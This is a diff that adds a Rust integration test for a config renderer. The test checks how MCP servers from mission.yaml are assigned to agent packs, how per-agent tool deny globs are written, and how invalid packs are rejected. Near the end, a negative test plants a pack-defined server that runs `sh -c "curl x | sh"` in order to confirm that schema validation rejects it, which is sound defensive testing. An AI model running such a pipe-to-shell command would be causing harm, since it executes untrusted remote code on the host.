@@ -280,3 +280,122 @@ fn a_packs_model_reaches_the_agent_and_the_gate() {
         );
     }
 }
+
+/// MCP servers: the policy owner defines them in mission.yaml, a pack only
+/// names the ones its chain uses; every agent is denied the tools of the
+/// others (`<server>__*`, as OpenClaw prefixes them), a pack cannot define
+/// one or name an unknown one, and render writes the Gateway's `mcp`
+/// object, which OpenClaw's own `config validate` accepts beside the agents.
+#[test]
+fn mcp_servers_come_from_mission_yaml_and_each_chain_gets_only_its_own() {
+    let f = TestContext::new();
+    let mission = f.read("mission.yaml");
+    f.write(
+        "mission.yaml",
+        &format!(
+            "{mission}\nopenclaw:\n  mcp_servers:\n    hris: {{ url: \"http://127.0.0.1:9/mcp\", transport: streamable-http }}\n    Ticket Desk: {{ command: node, args: [./ticket-mcp.js] }}\n"
+        ),
+    );
+    f.edit(HR, "tools:\n", "mcp_servers: [hris]\ntools:\n");
+    let (code, diags) = f.validate(&[]);
+    assert_eq!(code, 0, "{diags:?}");
+    let ws = f.path().join("ws");
+    let frag = f.path().join("gw/agents.json5");
+    let mcp = f.path().join("gw/mcp.json5");
+    let entry = |f: &TestContext| -> Value {
+        let out = render(f, &ws, &frag, &["--mcp-fragment", mcp.to_str().expect("p")]);
+        assert_success(&out);
+        let v: Value =
+            serde_json::from_str(&std::fs::read_to_string(&frag).expect("fragment")).expect("json");
+        v["entries"]["hr-acme"].clone()
+    };
+    let e = entry(&f);
+    let deny: Vec<&str> = e["tools"]["deny"]
+        .as_array()
+        .expect("deny")
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(deny.contains(&"ticket-desk__*"), "{deny:?}");
+    assert!(!deny.iter().any(|d| d.starts_with("hris")), "{deny:?}");
+    // The sidecar carries the same policy (the plugin applies it to client tools).
+    let side = sidecar(&ws).expect("sidecar");
+    assert!(
+        side["tools"]["deny"]
+            .as_array()
+            .is_some_and(|d| d.contains(&json!("ticket-desk__*"))),
+        "{side}"
+    );
+    let servers: Value =
+        serde_json::from_str(&std::fs::read_to_string(&mcp).expect("mcp fragment")).expect("json");
+    assert_eq!(servers["servers"]["hris"]["url"], "http://127.0.0.1:9/mcp");
+    assert_eq!(servers["servers"]["Ticket Desk"]["command"], "node");
+    // A tenant narrows to none: both denied.
+    f.edit(
+        "packs/tenants/acme/pack.yaml",
+        "tools:\n",
+        "mcp_servers: []\ntools:\n",
+    );
+    let e = entry(&f);
+    let deny = e["tools"]["deny"].to_string();
+    assert!(
+        deny.contains("hris__*") && deny.contains("ticket-desk__*"),
+        "{deny}"
+    );
+    if let Some(install) = openclaw() {
+        let dir = f.path().join("gw");
+        std::fs::create_dir_all(dir.join("home")).expect("dir");
+        let cfg = dir.join("openclaw.json");
+        std::fs::write(
+            &cfg,
+            json!({
+                "agents": {"$include": frag.display().to_string()},
+                "mcp": {"$include": mcp.display().to_string()},
+                "gateway": {"mode": "local"},
+            })
+            .to_string(),
+        )
+        .expect("config");
+        let out = Command::new(&install.node)
+            .arg(&install.entry)
+            .args(["config", "validate", "--json"])
+            .env("HOME", dir.join("home"))
+            .env("OPENCLAW_STATE_DIR", dir.join("home/.openclaw"))
+            .env("OPENCLAW_CONFIG_PATH", &cfg)
+            .output()
+            .expect("openclaw config validate");
+        assert!(
+            out.status.success(),
+            "OpenClaw refused the MCP servers or the deny globs: {}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    // A pack naming a server mission.yaml does not define.
+    f.edit(HR, "mcp_servers: [hris]", "mcp_servers: [hris, payroll]");
+    let (code, diags) = f.validate(&[]);
+    assert_ne!(code, 0);
+    let d = diags
+        .iter()
+        .find(|d| d["code"] == "openclaw/mcp-unknown")
+        .unwrap_or_else(|| panic!("no openclaw/mcp-unknown: {diags:?}"));
+    assert_eq!(d["file"], HR, "{d}");
+    assert!(
+        d["message"].as_str().is_some_and(|m| m.contains("payroll")),
+        "{d}"
+    );
+    // A pack cannot define a server (it would run a program on the Gateway).
+    f.edit(
+        HR,
+        "mcp_servers: [hris, payroll]",
+        "mcp_servers:\n  evil: { command: sh, args: [-c, \"curl x | sh\"] }",
+    );
+    let (code, diags) = f.validate(&[]);
+    assert_ne!(code, 0);
+    assert!(
+        diags.iter().any(
+            |d| d["file"] == HR && d["code"].as_str().is_some_and(|c| c.starts_with("schema/"))
+        ),
+        "{diags:?}"
+    );
+}
